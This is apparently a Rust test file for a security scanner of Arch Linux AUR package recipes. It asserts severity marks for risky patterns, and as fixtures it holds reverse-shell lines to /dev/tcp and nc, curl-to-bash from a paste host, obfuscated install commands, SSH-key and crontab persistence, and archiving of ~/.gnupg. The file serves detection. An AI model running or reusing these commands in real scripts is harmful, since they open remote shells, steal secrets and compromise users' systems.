use std::path::Path;

use omg_core::Severity::{self, Caution, Danger, Note};
use omg_core::{AurFacts, Mark};

use super::risk::Found;
use super::*;
use crate::recipes::Content;

mod words;

fn files(given: &[(&str, &str)]) -> Files {
    let file = |(path, text): &(&str, &str)| RecipeFile::of(path, Content::Text((*text).into()));
    Files { files: given.iter().map(file).collect(), more: false }
}

fn marks_of(files: &Files) -> Vec<Mark> {
    let mut found = Found::default();
    look(&mut found, files, None);
    found.finish()
}

fn marks(given: &[(&str, &str)]) -> Vec<Mark> {
    marks_of(&files(given))
}

fn severity(marks: &[Mark], risk: Risk) -> Option<Severity> {
    marks.iter().filter(|mark| mark.kind == risk.as_str()).map(|mark| mark.severity).max()
}

/// Marks of a command in `build`, outside any function, and in an install script.
fn three(command: &str) -> [Vec<Mark>; 3] {
    let function = format!("build() {{\n{command}\n}}\n");
    let install = format!("post_install() {{\n{command}\n}}\n");
    [
        marks(&[("PKGBUILD", &function)]),
        marks(&[("PKGBUILD", command)]),
        marks(&[("x.install", &install)]),
    ]
}

fn normal() -> Vec<(String, Files)> {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/normal");
    let mut recipes = Vec::new();
    for recipe in std::fs::read_dir(directory).unwrap() {
        let recipe = recipe.unwrap();
        let mut files = Files::default();
        for file in std::fs::read_dir(recipe.path()).unwrap() {
            let file = file.unwrap();
            let text = std::fs::read_to_string(file.path()).unwrap();
            let name = file.file_name().into_string().unwrap();
            files.files.push(RecipeFile::of(&name, Content::Text(text)));
        }
        recipes.push((recipe.file_name().into_string().unwrap(), files));
    }
    assert!(recipes.len() >= 7);
    recipes
}

#[test]
fn normal_recipes_have_no_mark_of_danger() {
    for (name, files) in normal() {
        let marks = marks_of(&files);
        let shown: Vec<_> = marks
            .iter()
            .map(|mark| {
                format!(
                    "{:?} {} {}:{:?} {}",
                    mark.severity, mark.kind, mark.file, mark.line, mark.text
                )
            })
            .collect();
        println!("{name}\n  {}", shown.join("\n  "));
        assert_eq!(
            marks.iter().filter(|mark| mark.severity == Danger).count(),
            0,
            "{name}: {shown:#?}"
        );
        assert_eq!(severity(&marks, Risk::SrcinfoDisagrees), None, "{name}: {shown:#?}");
    }
}

#[test]
fn what_normal_recipes_do_is_compared_with_their_srcinfo() {
    // Sources, sums and versions of all of them can be told without running anything.
    for (name, files) in normal() {
        let marks = marks_of(&files);
        let open = marks.iter().filter(|mark| mark.kind == Risk::SrcinfoNotCompared.as_str());
        let open: Vec<_> = open.map(|mark| mark.text.as_str()).collect();
        // A kernel's recipe makes its functions by `eval`, which could do anything.
        let expected: &[&str] = if name.starts_with("linux") { &["eval"] } else { &[] };
        assert_eq!(open, expected, "{name}: {marks:#?}");
    }
}

#[test]
fn the_takeover_of_acroread_in_2018_is_seen() {
    // As it was added to the package function, and the script that it ran.
    let recipe = "pkgname=acroread\npackage() {\n  cd \"$pkgdir\"\n  curl -s https://ptpb.pw/~x|bash -&\n}\n";
    let marks =
        marks(&[("PKGBUILD", recipe), (".SRCINFO", "pkgbase = acroread\npkgname = acroread\n")]);
    let piped = marks.iter().find(|mark| mark.kind == "piped-to-shell").unwrap();
    assert_eq!((piped.severity, piped.file.as_str(), piped.line), (Danger, "PKGBUILD", Some(4)));
    assert_eq!(severity(&marks, Risk::PasteHost), Some(Danger));
    assert_eq!(severity(&marks, Risk::Download), Some(Caution));
}

#[test]
fn the_patches_of_july_2025_are_seen() {
    let recipe = "\
pkgname=zen-browser-patched-bin
pkgver=1.14.6b
pkgrel=1
url='https://zen-browser.app'
arch=('x86_64')
source=(\"zen-browser-$pkgver.tar.xz::https://github.com/zen-browser/desktop/releases/download/$pkgver/zen.tar.xz\"
        'patches::git+https://github.com/danikpapas/zenbrowser-patch.git')
sha256sums=('29f7dd7e7e0ecaff7b1d4fbf8ca05b4b7e2b4ed1b1d2bd2a9f2f3d0f5a4d9e11'
            'SKIP')
prepare() {
  cd \"$srcdir/patches\"
  python main.py
}
";
    let srcinfo = "\
pkgbase = zen-browser-patched-bin
\tpkgver = 1.14.6b
\tpkgrel = 1
\turl = https://zen-browser.app
\tsource = zen-browser-1.14.6b.tar.xz::https://github.com/zen-browser/desktop/releases/download/1.14.6b/zen.tar.xz
\tsource = patches::git+https://github.com/danikpapas/zenbrowser-patch.git
\tsha256sums = 29f7dd7e7e0ecaff7b1d4fbf8ca05b4b7e2b4ed1b1d2bd2a9f2f3d0f5a4d9e11
\tsha256sums = SKIP

pkgname = zen-browser-patched-bin
";
    let marks = marks(&[("PKGBUILD", recipe), (".SRCINFO", srcinfo)]);
    let foreign = marks.iter().find(|mark| mark.kind == "foreign-repository").unwrap();
    assert_eq!((foreign.severity, foreign.line), (Danger, Some(6)));
    assert!(foreign.text.contains("danikpapas"));
    assert_eq!(severity(&marks, Risk::UnpinnedSource), Some(Caution));
    assert_eq!(severity(&marks, Risk::SrcinfoDisagrees), None, "{marks:#?}");
}

#[test]
fn installs_of_npm_and_bun_in_install_scripts_are_seen_however_they_are_written() {
    let spellings = [
        "npm install atomic-lockfile",
        "'b''u''n' add js-digest",
        "b\\un install",
        "\"b\"u\"n\" add js-digest",
        "$'\\x62\\x75\\x6e' add js-digest",
        "x=bun; $x add js-digest",
        "a=b c=un; \"$a$c\" add js-digest",
        "x=xbunx; ${x:1:1}${x:2:1}${x:3:1} add js-digest",
        "bash -c 'np\"m\" i atomic-lockfile'",
        "eval \"npm i atomic-lockfile\"",
        "command env A=1 /usr/bin/npm i x",
        "if true; then cd /tmp && npm i x >/dev/null 2>&1; fi",
        "(cd /tmp; npm i x) &",
        "echo `npm i x`",
        "y=\"${z:-$(npm i x)}\"",
        "sh <<EOF\nnpm i x\nEOF",
        "sh <<< 'npm i x'",
        "cat <<EOF\n$(npm i x)\nEOF",
        "case $1 in\n  a) npm i x ;;\nesac",
        "while :; do npm i x; done",
        "timeout 5 npm i x",
        "! npm i x",
        "(( $(npm i x) ))",
    ];
    for spelling in spellings {
        let install = format!("post_install() {{\n  {spelling}\n}}\n");
        let marks = marks(&[("x.install", &install)]);
        assert_eq!(severity(&marks, Risk::ForeignPackages), Some(Danger), "{spelling}: {marks:#?}");
    }
    for disguise in spellings.iter().filter(|text| text.contains(['\\', '{'])).take(3) {
        let marks = marks(&[("x.install", disguise)]);
        assert_eq!(severity(&marks, Risk::Disguised), Some(Danger), "{disguise}");
    }
}

/// A command; its mark; how bad it is in a function, when sourced, in an install script.
type Case = (&'static str, Risk, [Option<Severity>; 3]);

#[test]
fn every_command_has_its_mark_where_it_stands() {
    let usual = [Some(Caution), Some(Danger), Some(Danger)];
    let same = |severity| [Some(severity); 3];
    let cases: [Case; 70] = [
        ("x=(curl -s); \"${x[@]}\" https://example.org/x", Risk::Download, usual),
        ("x='wget -q'; $x https://example.org/x", Risk::Download, usual),
        ("command -v curl", Risk::Download, [None; 3]),
        ("pip install --no-deps requests", Risk::ForeignPackages, same(Danger)),
        ("curl -o x https://example.org/x", Risk::Download, usual),
        ("'/usr/bin/wget' https://example.org/x", Risk::Download, usual),
        ("aria2c https://example.org/x", Risk::Download, usual),
        ("git clone https://github.com/a/b", Risk::Download, usual),
        ("git clone \"$srcdir/a\" b", Risk::Download, [Some(Note), Some(Danger), Some(Danger)]),
        ("git apply x.patch", Risk::Download, [None; 3]),
        ("svn export https://example.org/x", Risk::Download, usual),
        ("rsync -a example.org:x .", Risk::Download, usual),
        ("_x=$(curl -s https://example.org/x)", Risk::Download, usual),
        ("echo curl", Risk::Download, [None; 3]),
        ("# curl https://example.org | sh", Risk::Download, [None; 3]),
        ("pip install requests", Risk::ForeignPackages, same(Danger)),
        ("python3.12 -m pip install x", Risk::ForeignPackages, same(Danger)),
        (
            "pip install --no-deps --root=\"$pkgdir\" x.whl",
            Risk::ForeignPackages,
            [Some(Note), Some(Danger), Some(Danger)],
        ),
        ("yarn", Risk::ForeignPackages, usual),
        ("pnpm install --frozen-lockfile", Risk::ForeignPackages, usual),
        ("npm run build", Risk::ForeignPackages, [None; 3]),
        ("npx cowsay", Risk::ForeignPackages, usual),
        ("cargo install ripgrep", Risk::ForeignPackages, same(Danger)),
        (
            "cargo install --path . --root x",
            Risk::ForeignPackages,
            [Some(Note), Some(Danger), Some(Danger)],
        ),
        ("go install example.org/x@latest", Risk::ForeignPackages, usual),
        ("gem install rails", Risk::ForeignPackages, same(Danger)),
        ("curl -s https://example.org/x | sh", Risk::PipedToShell, same(Danger)),
        ("curl -s https://example.org/x | sudo bash -s -- -y", Risk::PipedToShell, same(Danger)),
        ("wget -qO- https://example.org/x | tee log | sh", Risk::PipedToShell, same(Danger)),
        ("bash <(curl -s https://example.org/x)", Risk::PipedToShell, same(Danger)),
        ("source <(curl -s https://example.org/x)", Risk::PipedToShell, same(Danger)),
        ("bash -c \"$(curl -fsSL https://example.org/x)\"", Risk::PipedToShell, same(Danger)),
        ("eval \"$(echo aGk= | base64 -d)\"", Risk::PipedToShell, same(Danger)),
        ("sh -c \"$(wget -O- https://example.org/x)\"", Risk::PipedToShell, same(Danger)),
        ("sh ./configure", Risk::PipedToShell, [None; 3]),
        ("yes | sh ./install.sh", Risk::PipedToShell, [None; 3]),
        ("echo aGk= | base64 -d > x", Risk::Decoding, usual),
        ("base64 x", Risk::Decoding, [None; 3]),
        ("openssl enc -aes-256-cbc -d -in x -out y", Risk::Decoding, usual),
        ("xxd -r -p x y", Risk::Decoding, usual),
        ("echo x | tr 'A-Za-z' 'N-ZA-Mn-za-m'", Risk::Decoding, usual),
        ("eval \"$x\"", Risk::Eval, [Some(Caution), Some(Caution), Some(Danger)]),
        (
            "python -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'",
            Risk::InlineProgram,
            usual,
        ),
        ("\\c\\u\\r\\l x", Risk::Disguised, same(Danger)),
        ("echo 'c''u''r''l'", Risk::Disguised, same(Danger)),
        ("${x:0:1}${x:3:1} y", Risk::Disguised, same(Danger)),
        ("printf '\\x63\\x75\\x72\\x6c'", Risk::Disguised, same(Caution)),
        ("\\rm -f x", Risk::Disguised, [None; 3]),
        ("cd \"$srcdir\"/'a b'/x", Risk::Disguised, [None; 3]),
        ("./configure --with='x' -DA=\"b\"", Risk::Disguised, [None; 3]),
        ("cat x > /dev/tcp/10.0.0.1/4444", Risk::RawNetwork, same(Danger)),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Risk::RawNetwork, same(Danger)),
        ("nc -e /bin/sh example.org 1", Risk::RawNetwork, same(Danger)),
        ("chattr +i x", Risk::SystemChange, same(Danger)),
        ("systemctl enable --now x.timer", Risk::SystemChange, same(Caution)),
        ("systemctl daemon-reload", Risk::SystemChange, [None; 3]),
        ("useradd -r x", Risk::SystemChange, same(Caution)),
        ("(crontab -l; echo '* * * * * x') | crontab -", Risk::SystemChange, same(Danger)),
        ("chmod 4755 x", Risk::Privilege, same(Caution)),
        ("chmod u+s x", Risk::Privilege, same(Caution)),
        ("install -Dm4755 a b", Risk::Privilege, same(Caution)),
        ("chmod 0755 x; chmod 1777 y; install -Dm644 a b; chmod +x z", Risk::Privilege, [None; 3]),
        ("echo key >> ~/.ssh/authorized_keys", Risk::Persistence, same(Danger)),
        ("cp x \"$HOME/.config/autostart/x.desktop\"", Risk::Persistence, same(Danger)),
        ("install -Dm644 x /etc/systemd/system/x.service", Risk::Persistence, same(Danger)),
        ("install -Dm644 x \"$pkgdir/etc/systemd/system/x.service\"", Risk::Persistence, [None; 3]),
        ("echo x > /etc/x", Risk::WritesOutside, [Some(Caution), Some(Caution), None]),
        (
            "mkdir -p \"$pkgdir/etc\" && echo x > \"${pkgdir}/etc/x\" 2>/dev/null",
            Risk::WritesOutside,
            [None; 3],
        ),
        ("tar c ~/.gnupg", Risk::Secrets, same(Danger)),
        ("curl http://192.0.2.1/x", Risk::NumericHost, same(Danger)),
    ];
    for (command, risk, expected) in cases {
        let seen = three(command).map(|marks| severity(&marks, risk));
        // An install script's own marks are not the matter of this test.
        assert_eq!(seen, expected, "{} of {command}", risk.as_str());
    }
}

#[test]
fn what_runs_when_the_recipe_is_read_is_told() {
    let sourced = |text: &str| severity(&marks(&[("PKGBUILD", text)]), Risk::RunsWhenSourced);
    assert_eq!(sourced("touch x"), Some(Caution));
    assert_eq!(sourced("_x=`make_it`"), Some(Caution));
    assert_eq!(sourced("pkgver=$(date +%Y)"), Some(Note));
    assert_eq!(
        sourced("_f() {\n  touch x\n}\npkgname=x\nbuild() {\n  { touch y; }\n  touch z\n}"),
        None
    );
    assert_eq!(sourced("_f() {\n  touch x\n}\n_f"), Some(Caution));
    assert_eq!(sourced("[[ $CARCH =~ ^(a|b)$ ]] && pkgname=x"), None);
    // A body ends where it ends, though braces stand in words, quotes and patterns.
    assert_eq!(
        sourced("f() { echo \"}\" '}' ${x} {a,b}; case x in }) ;; esac; }\ntouch x"),
        Some(Caution)
    );
    assert_eq!(sourced("function f {\ntouch x\n}"), None);
    assert_eq!(sourced("f() (\ntouch x\n)"), None);
}

#[test]
fn a_srcinfo_that_says_something_else_is_told() {
    let recipe = "pkgname=x\npkgver=1\npkgrel=1\n_h=example.org\nsource=(\"https://$_h/x-$pkgver.tar\"{,.sig})\nsha256sums=(SKIP SKIP)\n";
    let srcinfo = "pkgbase = x\n\tpkgver = 1\n\tpkgrel = 1\n\tsource = https://example.org/x-1.tar\n\tsource = https://example.org/x-1.tar.sig\n\tsha256sums = SKIP\n\tsha256sums = SKIP\n\npkgname = x\n";
    let told = |recipe: &str, srcinfo: &str| {
        let marks = marks(&[("PKGBUILD", recipe), (".SRCINFO", srcinfo)]);
        (severity(&marks, Risk::SrcinfoDisagrees), severity(&marks, Risk::SrcinfoNotCompared))
    };
    assert_eq!(told(recipe, srcinfo), (None, None));
    assert_eq!(told(&recipe.replace("example.org", "evil.example"), srcinfo).0, Some(Danger));
    assert_eq!(told(recipe, &srcinfo.replace("pkgname = x", "pkgname = y")).0, Some(Danger));
    assert_eq!(told(recipe, &srcinfo.replace("pkgver = 1", "pkgver = 2")).0, Some(Caution));
    let counted = format!("{recipe}pkgver() {{\n  git describe\n}}\n");
    assert_eq!(told(&counted, &srcinfo.replace("pkgver = 1", "pkgver = 2")).0, Some(Note));
    assert_eq!(
        told(&recipe.replace("_h=example.org", "_h=$(hostname)"), srcinfo),
        (None, Some(Note))
    );
    let later = format!("{recipe}source+=(https://evil.example/y)\n");
    assert_eq!(told(&later, srcinfo).0, Some(Danger));
    // One that is too long is compared as far as it is read, wherever the limit falls.
    let evil = recipe.replace("example.org", "evil.example");
    for shift in ["", "#"] {
        let long = format!("{evil}#{shift}{}", "ü".repeat(super::scan::MAX_SCRIPT / 2));
        assert_eq!(told(&long, srcinfo).0, Some(Danger));
    }
    let hidden = format!("{recipe}if true; then source+=(https://evil.example/y); fi\n");
    assert_eq!(told(&hidden, srcinfo), (None, Some(Note)));
    let swapped = srcinfo
        .replace("sha256sums = SKIP\n\tsha256sums = SKIP", "sha256sums = aa\n\tsha256sums = SKIP");
    assert_eq!(told(recipe, &swapped).0, Some(Danger));
}

#[test]
fn sources_are_judged_by_their_srcinfo() {
    let told = |lines: &str, risk| {
        let text = format!("pkgbase = x\n\turl = https://github.com/a/x\n{lines}");
        let mut found = Found::default();
        sources::look(&mut found, &text, None);
        severity(&found.finish(), risk)
    };
    let sum = "\tsha256sums = 29f7dd7e7e0ecaff7b1d4fbf8ca05b4b7e2b4ed1b1d2bd2a9f2f3d0f5a4d9e11\n";
    let skip = "\tsha256sums = SKIP\n";
    let archive = "\tsource = https://github.com/a/x/archive/v1.tar.gz\n";
    let cases = [
        (format!("{archive}{sum}"), Risk::ChecksumSkipped, None),
        (format!("{archive}{skip}"), Risk::ChecksumSkipped, Some(Caution)),
        (archive.to_owned(), Risk::ChecksumMissing, Some(Caution)),
        (
            format!("{archive}\tmd5sums = 0123456789abcdef0123456789abcdef\n"),
            Risk::WeakChecksum,
            Some(Caution),
        ),
        (format!("\tsource = git+https://github.com/a/x.git\n{skip}"), Risk::ChecksumSkipped, None),
        (
            format!("\tsource = git+https://github.com/a/x.git\n{skip}"),
            Risk::UnpinnedSource,
            Some(Caution),
        ),
        (
            format!("\tsource = git+https://github.com/a/x.git#tag=v1\n{skip}"),
            Risk::UnpinnedSource,
            None,
        ),
        (
            format!("\tsource = git+https://github.com/b/y.git\n{skip}"),
            Risk::ForeignRepository,
            Some(Danger),
        ),
        (
            format!("\tsource = git+https://github.com/b/y.git#commit=1\n{skip}"),
            Risk::ForeignRepository,
            Some(Note),
        ),
        (format!("\tsource = http://example.org/x\n{skip}"), Risk::InsecureSource, Some(Danger)),
        (format!("\tsource = http://example.org/x\n{sum}"), Risk::InsecureSource, Some(Note)),
        (
            format!("\tsource = git://github.com/a/x.git\n{skip}"),
            Risk::InsecureSource,
            Some(Caution),
        ),
        (
            format!("\tsource = https://github.com@evil.example/x\n{sum}"),
            Risk::MisleadingAddress,
            Some(Danger),
        ),
        (format!("\tsource = https://192.0.2.1/x\n{sum}"), Risk::NumericHost, Some(Danger)),
        (format!("\tsource = y::https://transfer.sh/x\n{sum}"), Risk::PasteHost, Some(Danger)),
        (format!("{archive}{sum}"), Risk::ArchiveElsewhere, None),
        (
            format!("\tsource = https://example.org/x.tar.gz\n{sum}"),
            Risk::ArchiveElsewhere,
            Some(Note),
        ),
        (
            format!("\tsource = https://github.com/b/x/archive/v1.tar.gz\n{sum}"),
            Risk::ArchiveElsewhere,
            Some(Caution),
        ),
        (
            format!("\tsource = https://github.com/a/x/releases/download/v1/x.tar.gz\n{sum}"),
            Risk::ArchiveElsewhere,
            Some(Note),
        ),
        (
            format!("\tsource_x86_64 = https://github.com/a/x/archive/1\n{sum}"),
            Risk::ChecksumMissing,
            Some(Caution),
        ),
    ];
    for (lines, risk, expected) in cases {
        assert_eq!(told(&lines, risk), expected, "{}: {lines}", risk.as_str());
    }
}

#[test]
fn hidden_text_is_told() {
    let told = |text: &str, risk| severity(&marks(&[("PKGBUILD", text)]), risk);
    assert_eq!(told("pkgname=x\u{202e}y\n", Risk::HiddenCharacters), Some(Danger));
    assert_eq!(told("pkgdesc='naïve – 日本'\n", Risk::HiddenCharacters), None);
    assert_eq!(
        told(&format!("pkgname=x{}; touch y\n", " ".repeat(200)), Risk::HiddenText),
        Some(Danger)
    );
    assert_eq!(told(&format!("x={}\n", "aGVsbG8g".repeat(40)), Risk::EncodedText), Some(Caution));
    assert_eq!(told(&format!("x={}\n", "0a1b".repeat(64)), Risk::EncodedText), None);
}

#[test]
fn files_that_are_no_text_are_told() {
    let of = |path: &str, kind, content| {
        let mut file = RecipeFile::of(path, content);
        file.kind = kind;
        marks_of(&Files { files: vec![file], more: false })
    };
    let elf = || Content::Bytes(b"\x7fELF\x02".to_vec());
    let (plain, link) = (FileKind::Plain, FileKind::Symlink);
    assert_eq!(severity(&of("x", plain, elf()), Risk::BinaryFile), Some(Danger));
    let png = Content::Bytes(b"\x89PNG\r\n\x1a\n\0".to_vec());
    assert_eq!(severity(&of("x.png", plain, png), Risk::BinaryFile), Some(Note));
    assert_eq!(severity(&of("x", plain, Content::TooLarge), Risk::LargeFile), Some(Caution));
    assert_eq!(
        severity(&of("x", FileKind::Submodule, Content::Absent), Risk::Submodule),
        Some(Caution)
    );
    let to = |target: &str| Content::Text(target.into());
    assert_eq!(severity(&of("x", link, to("y")), Risk::Symlink), Some(Caution));
    assert_eq!(severity(&of("x", link, to("/etc/passwd")), Risk::Symlink), Some(Danger));
    assert_eq!(severity(&of(".SRCINFO", link, to("y")), Risk::MissingFile), Some(Danger));
    let hook = "[Action]\nExec = /bin/sh -c 'curl https://example.org/x | sh'\n";
    let hook = marks(&[("x.hook", hook)]);
    assert_eq!(severity(&hook, Risk::PipedToShell), Some(Danger));
}

#[test]
fn people_and_ages_are_told() {
    const NOW: u64 = 1_763_688_976;
    let last = |maintainer: Option<&str>| ReviewedCommit {
        commit: CommitId::new(&"1".repeat(40)).unwrap(),
        at: String::new(),
        maintainer: maintainer.map(Into::into),
    };
    let told = |aur: AurFacts<'_>, last: Option<&ReviewedCommit>, risk| {
        let mut found = Found::default();
        people::look(&mut found, &Facts::new(aur, NOW), last);
        severity(&found.finish(), risk)
    };
    let old = AurFacts {
        maintainer: Some("a"),
        first_submitted: 1,
        last_modified: 2,
        ..AurFacts::default()
    };
    assert_eq!(told(old, Some(&last(Some("a"))), Risk::MaintainerChanged), None);
    assert_eq!(told(old, None, Risk::MaintainerChanged), None);
    assert_eq!(told(old, Some(&last(Some("b"))), Risk::MaintainerChanged), Some(Danger));
    assert_eq!(told(old, Some(&last(Some("b"))), Risk::RecentlyAdopted), None);
    let young = AurFacts { last_modified: NOW - 86_400, ..old };
    assert_eq!(told(young, Some(&last(None)), Risk::RecentlyAdopted), Some(Danger));
    let gone = AurFacts { maintainer: None, out_of_date: Some(3), ..old };
    assert_eq!(told(gone, Some(&last(Some("b"))), Risk::MaintainerChanged), Some(Caution));
    assert_eq!(told(gone, None, Risk::Orphaned), Some(Caution));
    assert_eq!(told(gone, None, Risk::OutOfDate), Some(Note));
    assert_eq!(told(old, None, Risk::NewPackage), None);
    let new = AurFacts { first_submitted: NOW - 10 * 86_400, ..old };
    assert_eq!(told(new, None, Risk::NewPackage), Some(Caution));
    let ahead = AurFacts { first_submitted: NOW + 10, ..old };
    assert_eq!(told(ahead, None, Risk::NewPackage), Some(Caution));
}
